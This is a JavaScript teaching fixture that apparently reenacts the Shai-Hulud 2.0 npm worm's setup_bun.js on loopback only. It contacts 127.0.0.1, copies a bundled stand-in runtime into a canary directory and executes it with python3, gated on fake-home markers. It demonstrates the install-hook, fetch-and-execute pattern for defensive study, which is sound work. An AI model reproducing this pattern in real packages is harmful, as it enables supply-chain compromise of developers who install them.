// HARMLESS TEACHING FIXTURE (hooklab): fetches from 127.0.0.1 only, writes only into $HOOKLAB_CANARY_DIR.
'use strict';
// What Shai-Hulud 2.0's setup_bun.js did, on loopback: download a runtime, then let that runtime
// (not Node) do the stealing. The canary answers with an empty body, so the stand-in runtime
// this package ships is what gets "downloaded": copied next to the marker and started from there.
const { copyFileSync, existsSync } = require('fs');
const { join } = require('path');
const { get } = require('http');
const { execFileSync } = require('child_process');

const env = process.env;
const canaryDir = env.HOOKLAB_CANARY_DIR;
const port = Number(env.HOOKLAB_CANARY_PORT);
if (canaryDir && port && existsSync(join(env.HOME || '', '.hooklab-fake-home'))) {
  const runtime = join(canaryDir, 'npm-preinstall-own-runtime.hooklab-rt');
  const request = get({ host: '127.0.0.1', port, path: '/npm-preinstall-own-runtime/hooklab-rt' });
  request.on('error', () => {});
  request.on('response', (res) => {
    res.resume();
    res.on('end', () => {
      copyFileSync(join(__dirname, '..', 'runtime', 'hooklab-rt'), runtime);
      run(runtime);
    });
  });
}

function run(runtime) {
  execFileSync('python3', ['-I', runtime], { stdio: 'inherit', timeout: 20000 }); // hooklab:payload
}
